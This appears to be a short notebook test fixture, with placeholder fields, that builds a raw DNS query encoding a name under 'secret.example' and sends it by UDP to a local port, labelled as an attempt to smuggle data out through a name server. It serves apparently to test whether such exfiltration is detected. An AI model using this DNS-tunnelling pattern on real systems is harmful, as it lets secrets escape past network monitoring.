# %% [markdown]
# tries: Smuggles what it knows out as a question to a name server.

# %%
import socket

question = bytes(12) + b"".join(bytes([len(part)]) + part for part in (b"__NAME__", b"secret", b"example")) + bytes(5)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", __PORT__))
